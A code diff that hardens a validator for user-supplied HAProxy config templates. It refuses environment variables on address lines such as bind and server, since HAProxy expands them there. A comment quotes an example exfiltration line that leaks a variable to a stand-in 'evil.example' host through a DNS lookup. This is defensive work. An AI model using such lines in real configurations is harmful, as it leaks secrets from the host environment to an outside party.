@@ -7,8 +7,11 @@ import { TextCopy } from './textCopy';
  * is printed into a config HAProxy reads with the controller's environment and beside other apps'
  * sections, so it must not:
  * - read the environment: `$NAME`/`${NAME}` inside double quotes becomes the literal `\$NAME`
- *   (HAProxy's own escape, configuration.txt §2.3), and a line using the `env()` sample fetch is
- *   refused (it would put a secret of the controller's into a header or a log);
+ *   (HAProxy's own escape, configuration.txt §2.3), except on a line that gives HAProxy an address
+ *   (bind, server, source, log, …), which is refused: HAProxy fills variables into every address it
+ *   parses, after quotes and escapes are undone, so neither quoting nor `\$` shelters one there
+ *   (`server x ${HOSTNAME}.evil.example:80` sent a variable out in a DNS query); a line using the
+ *   `env()` sample fetch is refused too (it would put a secret of the controller's into a header or a log);
  * - hold control characters other than tab and line feed (HAProxy refuses a NUL and cuts a line at
  *   a CR);
  * - open a section other than the one its template opens (`frontend`, `backend`, `userlist`), once:
@@ -63,6 +66,13 @@ export function appTemplateText(name: string, text: string, mapFiles: readonly s
     if (words.some((w) => ENV_FETCH.test(w))) {
       return { error: `line ${n + 1} reads HAProxy's environment with the env() sample fetch` };
     }
+    const envWord =
+      keyword !== undefined && ADDRESS_LINES.has(keyword) ? words.find((w) => ENV_VARIABLE.test(w)) : undefined;
+    if (envWord !== undefined) {
+      return {
+        error: `line ${n + 1} has ${JSON.stringify(envWord.slice(0, 40))}: HAProxy fills $NAME and \${NAME} in an address with its environment`,
+      };
+    }
     const fileWord = words.find(
       (w) =>
         PATTERN_FILE_FLAGS.has(w) ||
@@ -111,6 +121,24 @@ const OWN_SECTION: Readonly<Record<string, string>> = {
   BACKEND_HEAD: 'backend',
   USERLIST_HEAD: 'userlist',
 };
+/** What HAProxy's env_expand() takes for a variable: `$` then `{` or a letter, digit or underscore. */
+const ENV_VARIABLE = /\$[{A-Za-z0-9_]/;
+/**
+ * Directives of a frontend or backend whose addresses HAProxy 2.6 parses with str2sa_range(), which
+ * expands variables: bind, dispatch, log, source (and usesrc), server lines (their address, addr,
+ * source, socks4), and tcp-check/http-check connect addr.
+ */
+const ADDRESS_LINES: ReadonlySet<string> = new Set([
+  'bind',
+  'dispatch',
+  'log',
+  'source',
+  'server',
+  'server-template',
+  'default-server',
+  'tcp-check',
+  'http-check',
+]);
 /** The env() sample fetch, as a word of its own or inside %[...]. */
 const ENV_FETCH = /(?<![\w.-])env\(/;
 /** Words that name a file for HAProxy to read into the config (pattern files, returned or error pages). */
